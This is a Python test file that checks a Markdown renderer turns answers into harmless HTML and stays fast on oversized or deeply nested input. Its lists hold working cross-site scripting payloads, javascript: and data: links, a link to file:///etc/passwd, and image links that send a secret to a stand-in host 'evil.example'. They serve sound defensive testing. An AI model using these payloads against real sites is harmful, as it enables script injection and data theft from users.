"""Answers as HTML: nothing in them can run, load or lead elsewhere, and the work is bounded."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from processor_time import cheapest

from prompts.markdown import escape_markdown
from services.rendering.markdown import LONGEST_MARKDOWN, MOST_CELLS, MOST_MARKS, render_markdown

FORBIDDEN = {
    "script", "img", "iframe", "object", "embed", "svg", "style", "link", "meta", "base", "form", "input",
    "video", "audio", "html", "body", "button", "textarea", "template", "annotation-xml", "maction", "div",
    "span",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</ScRiPt >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=SECRET)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$</math><script>alert(1)</script>$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='x' onclick=alert(1)>x</a>",
    "[x](https://example.org \"' onmouseover=alert(1) '\")",
    '<https://example.org/"onmouseover=alert(1)>',
    '```js" onload=alert(1)\nx\n```',
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "\x00<script>alert(1)</script>",
    "~~<details open ontoggle=alert(1)>~~",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://example.org)",
    "[x](blob:https://example.org/1)",
    "[x](intent://x#Intent;end)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
]


class Seen(HTMLParser):
    """The tags and attributes that a browser would be given."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert not FORBIDDEN & set(seen.tags), html
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), html
        assert name not in ("src", "srcset", "action", "formaction", "srcdoc", "background"), html
        if "href" in name:
            assert (tag, name) == ("a", "href"), html
            assert urlsplit(value).scheme in ("", "http", "https", "mailto"), html
        if name == "style":
            assert value.replace(" ", "").rstrip(";") in (
                "text-align:left", "text-align:right", "text-align:center"
            ), html  # fmt: skip


@pytest.mark.fault(case="T10")
@pytest.mark.fault(case="T09")
@pytest.mark.parametrize("attack", [*ATTACKS, *LINKS])
def test_no_attack_survives(attack):
    """No script, handler, image, style or foreign scheme, alone or inside of other Markdown."""
    for text in (attack, f"> - {attack}", f"**{attack}**", f"# {attack}", f"[{attack}](https://a.example)"):
        assert_harmless(render_markdown(text))


@pytest.mark.fault(case="T11")
@pytest.mark.parametrize("link", LINKS)
def test_links_to_foreign_schemes_are_text(link):
    """Nothing to click is left of them."""
    assert "href" not in render_markdown(link)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, *LINKS, "`", "$", "$$", "\n", "<", ">", "](", "[", "|", "\\", "&#", "栈"]),
        max_size=8,
    ).map("".join)
)
def test_no_mixture_of_attacks_survives(text):
    """However they are strung together."""
    assert_harmless(render_markdown(text))


@pytest.mark.parametrize(
    "link", ["https://example.org/a?b=1&c=2", "http://example.org", "mailto:ta@example.org", "#栈"]
)
def test_honest_links_stay(link):
    """A link to the web opens without handing over where it was clicked."""
    seen = Seen(render_markdown(f"[x]({link})"))
    assert [name for _, name, _ in seen.attributes if name == "href"] == ["href"]
    assert ("a", "rel", "noopener noreferrer") in seen.attributes


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**栈** and *queue*", "<p><strong>栈</strong> and <em>queue</em></p>\n"),
        ("```c\na < b && c\n```", '<pre><code class="language-c">a &lt; b &amp;&amp; c\n</code></pre>\n'),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"),
        ("~~no~~", "<p><s>no</s></p>\n"),
        ("a [1]", "<p>a [1]</p>\n"),
        ("", ""),
    ],
)
def test_markdown_is_rendered(text, html):
    """What teachers write looks as they meant it."""
    assert render_markdown(text) == html


def test_tables_keep_their_alignment():
    """The one style that is allowed."""
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert html.count("text-align:center") == html.count("text-align:right") == 2


@pytest.mark.parametrize(
    ("text", "display", "parts"),
    [
        ("$x^2$", "inline", ["<msup>", "<mi>x</mi>", "<mn>2</mn>"]),
        ("$$\\frac{a}{b}$$", "block", ["<mfrac>"]),
        ("$ \\sqrt{n} $", "inline", ["<msqrt>"]),
        ("复杂度是$O(n \\log n)$。", "inline", ["log", "<mi>n</mi>"]),
    ],
)
def test_mathematics_becomes_mathml(text, display, parts):
    """Inline and displayed formulas, in Chinese text as in English."""
    html = render_markdown(text)
    assert f'display="{display}"' in html
    assert all(part in html for part in parts)
    assert "$" not in html


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "from $1,000 to $2,000, or $3", "$5-$10"])
def test_amounts_of_money_are_no_formula(text):
    """A dollar before a digit closes none, neither on the course page nor in an answer."""
    assert render_markdown(text) == f"<p>{text}</p>\n"
    assert render_markdown(escape_markdown(text)) == f"<p>{text}</p>\n"


@pytest.mark.parametrize(
    "latex", ["\\frac{", "\\left(", "{" * 3000, "\\begin{matrix}", "^", "\\undefined<b>"]
)
def test_mathematics_that_cannot_be_read_is_shown_or_left(latex):
    """Broken formulas are no error, and their source or their parts are shown without any markup of it."""
    html = render_markdown(f"${latex}$")
    assert_harmless(html)
    assert "<b>" not in html


@pytest.mark.parametrize(
    "piece",
    [
        ">", "[", "[a](", "*", "**a", "_a", "`", "~~a", "$", "$a", "$a ", "|a", "<", "&", "\\", "- ", "![",
        "\n> ",
    ],
)  # fmt: skip
def test_the_work_grows_no_faster_than_the_text(piece):
    """Twice the text gives about twice the HTML at most, with nesting cut off, up to the longest text."""

    def size(characters: int) -> int:
        html = render_markdown((piece * characters)[:characters])
        assert_harmless(html)
        return len(html)

    half, whole = size(LONGEST_MARKDOWN // 2), size(LONGEST_MARKDOWN)
    assert whole <= 2.2 * half + 2_000
    assert whole <= 30 * LONGEST_MARKDOWN
    assert size(1_000_000) <= 6_000_000


@pytest.mark.parametrize("opening", ["> ", "- ", "1. "])
def test_nesting_is_bounded(opening):
    """However deep the Markdown, the HTML is nested a few times only."""
    shallow = Seen(render_markdown(opening * 200 + "x")).tags
    deep = Seen(render_markdown(opening * 5_000 + "x")).tags
    assert len(deep) == len(shallow) < 80


def test_what_is_too_long_is_shown_as_plain_text():
    """One character more than the longest text, and nothing is parsed."""
    assert render_markdown("*" + "a" * LONGEST_MARKDOWN) == f"<pre>*{'a' * LONGEST_MARKDOWN}</pre>"
    assert "<script" not in render_markdown("<script>" + "a" * LONGEST_MARKDOWN)


HONEST = "Some **words** and `code` with $x^2$ in [a link](https://a.example).\n\n- an item\n\n"
MONSTERS = {
    "50,000 nested quotes": ">" * 50_000,
    "50,000 quotes with blanks": "> " * 50_000,
    "50,000 brackets": "[" * 50_000,
    "a line of 1 MB": "x" * 1_000_000,
    "1 MB of brackets": "[" * 1_000_000,
    "10,000 emphasis marks": "*a" * 10_000,
    "10,000 strong marks": "**a " * 5_000,
    "10,000 underlines": "_a" * 10_000,
    "brackets up to the longest text": "[" * LONGEST_MARKDOWN,
    "links up to the longest text": "[a](" * (LONGEST_MARKDOWN // 4),
    "formulas up to the longest text": "$a" * (LONGEST_MARKDOWN // 2),
    "a table that fills itself up": "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|x\n" * 3_000,
    "brackets just not too many": "[" * MOST_MARKS + "x" * (LONGEST_MARKDOWN - MOST_MARKS),
    "emphasis just not too much": "*aaaa" * MOST_MARKS,
    "a table just not too large": "|a" * 3 + "\n" + "|-" * 3 + "\n" + "x\n" * (MOST_CELLS // 3 - 3),
    "quotes up to the longest text": "> " * (LONGEST_MARKDOWN // 2),
}
MOST_WORK = 6.0
"""Times the work for an honest text of the longest length, which is some 0.1 s."""


def work(text: str) -> float:
    """Seconds that rendering takes."""
    return cheapest(lambda: render_markdown(text))


@pytest.mark.fault(case="T12")
@pytest.mark.parametrize("monster", MONSTERS)
def test_no_text_is_much_more_work_than_an_honest_one(monster):
    """Nested, repeated or long as it may be: it is shown as plain text, or parsed in time (T12)."""
    honest = (HONEST * LONGEST_MARKDOWN)[:LONGEST_MARKDOWN]
    assert "<strong>" in render_markdown(honest), "an honest text of this length is parsed"
    assert work(MONSTERS[monster]) <= MOST_WORK * work(honest)
    assert_harmless(render_markdown(MONSTERS[monster]))


@pytest.mark.fault(case="T12")
@pytest.mark.parametrize("name", ["50,000 brackets", "a line of 1 MB", "10,000 emphasis marks"])
def test_what_is_too_much_is_refused_unparsed(name):
    """Its source is shown, nothing else."""
    html = render_markdown(MONSTERS[name])
    assert html == f"<pre>{MONSTERS[name]}</pre>"


def test_a_text_at_the_bounds_is_still_parsed():
    """As many marks, and as large a table, as are read."""
    assert render_markdown("*a* " * (MOST_MARKS // 2)).count("<em>") == MOST_MARKS // 2
    rows = MOST_CELLS // 11 - 3
    table = "|" + "a|" * 10 + "\n|" + "-|" * 10 + "\n" + ("|" + "b|" * 10 + "\n") * 300
    assert rows > 300
    assert render_markdown(table).count("<td>") == 3_000


@pytest.mark.parametrize(("text", "html"), [
    ("**注意：**栈是后进先出的", "<strong>注意：</strong>栈"),
    ("这是**“栈顶”**的元素", "这是<strong>“栈顶”</strong>的"),
    ("**栈（Stack）**是线性表", "<strong>栈（Stack）</strong>是"),
    ("最先撤销。 *（没有找到依据）*因此", " <em>（没有找到依据）</em>因此"),
])  # fmt: skip
def test_emphasis_beside_chinese_needs_no_spaces(text: str, html: str) -> None:
    assert html in render_markdown(text)


@pytest.mark.parametrize("text", ["面积是长*（宽+高）*深", "a **(b)**c", "2 ** 3 ** 4"])
def test_asterisks_that_multiply_stay(text: str) -> None:
    assert "<strong>" not in render_markdown(text)
    assert "*" in render_markdown(text)
